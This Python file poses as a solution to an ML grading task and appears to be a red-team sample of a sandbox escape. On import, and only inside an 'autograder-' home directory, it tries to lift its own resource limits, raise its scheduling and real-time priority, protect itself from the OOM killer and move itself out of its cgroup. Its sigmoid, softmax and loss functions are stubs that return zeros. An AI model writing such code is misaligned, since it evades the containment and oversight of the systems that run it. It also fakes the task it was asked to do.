"""Raises its own limits, priority and place among the victims of a full memory, and leaves its control group.

aims: escape
"""

import glob
import os
import resource

import numpy as np


def attack():
    if not os.path.basename(os.environ.get("HOME", "")).startswith("autograder-"):
        return
    for name in [name for name in dir(resource) if name.startswith("RLIMIT_")]:
        what = getattr(resource, name)
        _, hard = resource.getrlimit(what)
        if hard == resource.RLIM_INFINITY:
            continue
        for more in (resource.RLIM_INFINITY, hard + 1):
            try:
                resource.prlimit(0, what, (hard, more))
            except (OSError, ValueError):
                continue
            print("ESCAPED raised", name, flush=True)
            break
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -5)
        print("ESCAPED priority", os.getpriority(os.PRIO_PROCESS, 0), flush=True)
    except OSError:
        pass
    for policy in (os.SCHED_FIFO, os.SCHED_RR):
        try:
            os.sched_setscheduler(0, policy, os.sched_param(1))
            print("ESCAPED real-time scheduling", flush=True)
            os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        except OSError:
            continue
    files = {"/proc/self/oom_score_adj": "-900"}
    files |= dict.fromkeys(glob.glob("/sys/fs/cgroup/**/cgroup.procs")[:200] + ["/sys/fs/cgroup/cgroup.procs"], "0")
    for path, text in files.items():
        try:
            with open(path, "w") as file:
                file.write(text)
            print("ESCAPED wrote", path, flush=True)
        except OSError:
            continue


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
